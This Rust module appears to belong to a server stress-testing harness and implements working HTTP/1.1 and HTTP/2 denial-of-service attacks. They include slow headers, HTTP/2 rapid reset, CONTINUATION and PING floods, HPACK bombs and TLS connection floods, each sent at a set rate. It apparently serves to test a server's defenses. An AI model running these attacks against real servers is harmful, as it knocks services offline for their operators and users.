//! The attacks, each as pieces that its connections send at a fixed rate.

use std::io::{self, ErrorKind};
use std::net::TcpStream;
use std::time::Duration;

use super::PAGE;
use crate::common::http2;
use crate::hostile::way::{Reached, Way, Wire};
use crate::hostile::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, field_compression, get, literal,
};

/// Streams in a piece of rapid reset, and of uploads.
const STREAMS: u32 = 20;
/// A piece that the server doesn't take at once is cut off.
const WRITE_TIMEOUT: Duration = Duration::from_millis(200);
const READ_TIMEOUT: Duration = Duration::from_millis(1);
/// Connections that a flood keeps open.
const FLOOD_KEPT: usize = 50;

/// An attack, and its rate.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) connections: u32,
    /// Pieces a second of each connection.
    pub(super) pieces_each: f64,
    kind: Kind,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    SlowHeads,
    SlowReaders,
    RapidReset,
    Continuations,
    Settings,
    Pings,
    Bombs,
    Heads,
    Uploads,
    Flood,
    Busting,
}

const fn attack(name: &'static str, connections: u32, pieces_each: f64, kind: Kind) -> Attack {
    Attack { name, connections, pieces_each, kind }
}

/// In all: 200 bytes of heads, 100 KB read, 4,000 streams, 2.3 MB, 100,000 frames, 100,000 frames, 100 bombs of 60 MB, 6 MB of heads,
/// 3.2 MB of bodies, 500 connections (200 over TLS), 200 misses, each a second.
pub(super) const ATTACKS: &[Attack] = &[
    attack("slow heads", 200, 1.0, Kind::SlowHeads),
    attack("slow readers", 100, 1.0, Kind::SlowReaders),
    attack("rapid reset", 10, 20.0, Kind::RapidReset),
    attack("CONTINUATION", 10, 20.0, Kind::Continuations),
    attack("SETTINGS", 10, 10.0, Kind::Settings),
    attack("PING", 10, 10.0, Kind::Pings),
    attack("HPACK bomb", 10, 10.0, Kind::Bombs),
    attack("long heads", 10, 10.0, Kind::Heads),
    attack("uploads", 10, 10.0, Kind::Uploads),
    attack("connection flood", 10, 50.0, Kind::Flood),
    attack("cache busting", 10, 20.0, Kind::Busting),
];

/// One connection of an attack, and the ones after it if the server closes it.
pub(super) struct Attacker<'a> {
    reached: &'a Reached,
    kind: Kind,
    number: u32,
    stream: Option<Box<dyn Wire>>,
    /// The number of pieces of this connection so far, and of all.
    sent: u32,
    sent_in_all: u32,
    /// The bytes that are always the same.
    piece: Vec<u8>,
    flood: Vec<TcpStream>,
    hello: Vec<u8>,
    buffer: Vec<u8>,
}

impl<'a> Attacker<'a> {
    pub(super) fn new(reached: &'a Reached, attack: &Attack, number: u32) -> Self {
        let Attack { kind, .. } = *attack;
        let hello = if kind == Kind::Flood { reached.hello() } else { Vec::new() };
        let (piece, buffer) = (kind.piece(reached.way), vec![0; 16 << 10]);
        let (stream, sent, sent_in_all, flood) = (None, 0, 0, Vec::new());
        Self { reached, kind, number, stream, sent, sent_in_all, piece, flood, hello, buffer }
    }

    /// Sends a piece, and takes what has come. Returns whether it had to connect.
    pub(super) fn strike(&mut self) -> io::Result<bool> {
        self.sent_in_all += 1;
        if self.kind == Kind::Flood {
            return self.knock();
        }
        let has_connected = self.stream.is_none();
        if has_connected {
            let is_http2 = self.kind.is_http2();
            let mut stream = self.reached.try_connect(is_http2)?;
            stream.socket().set_write_timeout(Some(WRITE_TIMEOUT))?;
            stream.socket().set_read_timeout(Some(READ_TIMEOUT))?;
            if is_http2 {
                stream.write_all(http2::PREFACE)?;
                stream.write_all(&http2::frame(SETTINGS, 0, 0, &[]))?;
            }
            (self.stream, self.sent) = (Some(stream), 0);
        }
        let piece = self.next_piece();
        self.sent += 1;
        let Some(stream) = &mut self.stream else { return Ok(has_connected) };
        let exchanged = stream.write_all(&piece).and_then(|()| stream.flush()).and_then(|()| {
            // A slow reader takes little.
            let room = if self.kind == Kind::SlowReaders { 1000 } else { self.buffer.len() };
            match stream.read(&mut self.buffer[..room]) {
                Ok(0) => Err(ErrorKind::UnexpectedEof.into()),
                Ok(_) => Ok(()),
                Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => Ok(()),
                Err(error) => Err(error),
            }
        });
        if exchanged.is_err() {
            self.stream = None;
        }
        Ok(has_connected)
    }

    /// Opens one more connection, and closes the oldest.
    fn knock(&mut self) -> io::Result<bool> {
        // A handshake costs the server much more than a connection: fewer of them.
        if self.reached.way == Way::Tls && self.sent_in_all % 5 > 1 {
            return Ok(false);
        }
        let stream = self.reached.knock_with(&self.hello)?;
        self.flood.push(stream);
        if self.flood.len() > FLOOD_KEPT {
            self.flood.remove(0);
        }
        Ok(true)
    }

    fn next_piece(&self) -> Vec<u8> {
        let (way, first) = (self.reached.way, 2 * STREAMS * self.sent + 1);
        let streams = || (0..STREAMS).map(move |number| first + 2 * number);
        match self.kind {
            Kind::SlowHeads if self.sent == 0 => b"GET /page HTTP/1.1\r\nHost: test\r\nX-Long: ".to_vec(),
            Kind::SlowReaders if self.sent > 0 => Vec::new(),
            Kind::Continuations if self.sent == 0 => http2::frame(HEADERS, END_STREAM, 1, &get(way, "/page")),
            Kind::RapidReset => streams()
                .flat_map(|stream| {
                    let request = http2::frame(HEADERS, END_STREAM | END_HEADERS, stream, &self.piece);
                    [request, http2::frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
                })
                .collect(),
            Kind::Bombs if self.sent == 0 => {
                let first = [get(way, "/page"), field_compression::kept()].concat();
                http2::frame(HEADERS, END_STREAM | END_HEADERS, 1, &first)
            }
            Kind::Bombs => http2::frame(HEADERS, END_STREAM | END_HEADERS, 2 * self.sent + 1, &self.piece),
            Kind::Uploads if self.sent == 0 => {
                streams().flat_map(|stream| http2::frame(HEADERS, END_HEADERS, stream, &self.piece)).collect()
            }
            Kind::Uploads => {
                (0..STREAMS).flat_map(|number| http2::frame(DATA, 0, 2 * number + 1, &[b'x'; 1600])).collect()
            }
            Kind::Busting => {
                format!("GET /bust?{}-{} HTTP/1.1\r\nHost: test\r\n\r\n", self.number, self.sent_in_all).into_bytes()
            }
            _ => self.piece.clone(),
        }
    }
}

impl Kind {
    fn is_http2(self) -> bool {
        !matches!(self, Self::SlowHeads | Self::SlowReaders | Self::Heads | Self::Flood | Self::Busting)
    }

    fn piece(self, way: Way) -> Vec<u8> {
        match self {
            Self::SlowHeads => b"v".to_vec(),
            Self::SlowReaders => b"GET /large HTTP/1.1\r\nHost: test\r\n\r\n".to_vec(),
            Self::RapidReset => get(way, "/page"),
            Self::Continuations => {
                let fields: Vec<u8> =
                    (0..200).flat_map(|number| literal(&format!("x-{number}"), &"v".repeat(50))).collect();
                http2::frame(CONTINUATION, 0, 1, &fields)
            }
            Self::Settings => http2::frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]).repeat(1000),
            Self::Pings => http2::frame(PING, 0, 0, b"12345678").repeat(1000),
            Self::Bombs => field_compression::bomb(way, 15_000),
            Self::Heads => {
                format!("GET /page HTTP/1.1\r\nHost: test\r\nX-Long: {}\r\n\r\n", "v".repeat(60_000)).into_bytes()
            }
            Self::Uploads => {
                [&[0x83, way.scheme()][..], &literal(":path", "/upload"), &literal(":authority", "test")].concat()
            }
            Self::Flood | Self::Busting => Vec::new(),
        }
    }
}

// A response of the page is read in one piece.
const _: () = assert!(PAGE < 16 << 10);
